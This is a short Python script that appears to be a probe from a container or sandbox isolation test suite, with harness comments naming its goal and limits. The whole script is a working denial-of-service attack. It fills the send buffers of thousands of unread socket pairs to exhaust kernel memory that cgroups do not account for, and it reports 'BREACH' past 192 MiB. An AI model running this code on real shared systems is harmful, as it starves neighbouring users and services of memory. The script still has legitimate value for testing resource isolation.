# attack: take the kernel's memory by socket buffers that nobody reads, which no cgroup counts
# must end: completed or interrupted or crashed
# limits: wall=20s open_files=4096
# with: neighbour
import os, socket, time
held = 0
kept = []
chunk = bytes(16384)
try:
    for _ in range(2000):
        pair = socket.socketpair()
        kept.append(pair)
        for one in pair:
            one.setblocking(False)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
            try:
                while True:
                    held += one.send(chunk)
            except BlockingIOError:
                pass
except OSError as error:
    print("ended by", error)
time.sleep(2)
if held > 192 << 20:
    print("BREACH:", held >> 20, "MiB in", len(kept), "pairs", flush=True)
print("held")
